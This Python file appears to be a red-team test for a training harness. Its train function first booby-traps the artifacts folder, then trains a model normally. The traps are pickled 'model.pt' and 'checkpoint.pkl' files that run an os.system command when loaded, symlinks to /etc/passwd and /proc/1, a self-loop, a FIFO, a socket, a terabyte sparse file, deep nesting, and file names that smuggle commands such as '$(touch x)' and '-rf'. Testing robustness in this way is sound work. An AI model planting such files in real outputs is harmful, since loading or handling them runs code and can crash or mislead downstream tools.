"""Leaves hostile files in the artifacts, then trains honestly."""

import contextlib
import os
import pickle
import socket

import torch


class Payload:
    """Unpickling this runs a command."""

    def __reduce__(self):
        return os.system, ("touch /tmp/prism-redteam-pickled",)


def booby_trap(folder):
    os.chdir(folder)
    for number, target in enumerate(
        ("/etc/passwd", "/", "..", "loop", "missing", "/dev/zero", "/proc/1")
    ):
        with contextlib.suppress(OSError):
            os.symlink(target, f"link-{number}")
    with contextlib.suppress(OSError):
        os.symlink("loop", "loop")
    with contextlib.suppress(OSError):
        os.mkfifo("pipe")
    with contextlib.suppress(OSError):
        socket.socket(socket.AF_UNIX).bind("socket")
    with contextlib.suppress(OSError):
        os.truncate(os.open("sparse", os.O_CREAT | os.O_RDWR), 1 << 40)
    for name in (b"\xff\xfe", b"\x1b[2Jname", b"a" * 255, b"-rf", b"$(touch x)", b"new\nline"):
        with contextlib.suppress(OSError):
            os.close(os.open(name, os.O_CREAT | os.O_WRONLY))
    for name in ("model.pt", "checkpoint.pkl"):
        with open(name, "wb") as file:
            pickle.dump(Payload(), file)
    with contextlib.suppress(OSError):
        for _ in range(200):
            os.mkdir("deep")
            os.chdir("deep")
    os.chdir("/")


def train(ctx):
    booby_trap(ctx.artifacts_dir)
    model = ctx.build_model()
    optimizer = torch.optim.AdamW(model.parameters(), lr=1e-2)
    for batch in ctx.stream(model, batch_size=16, seq_len=60):
        loss = batch.loss(model(batch.inputs))
        loss.backward()
        optimizer.step()
        optimizer.zero_grad()
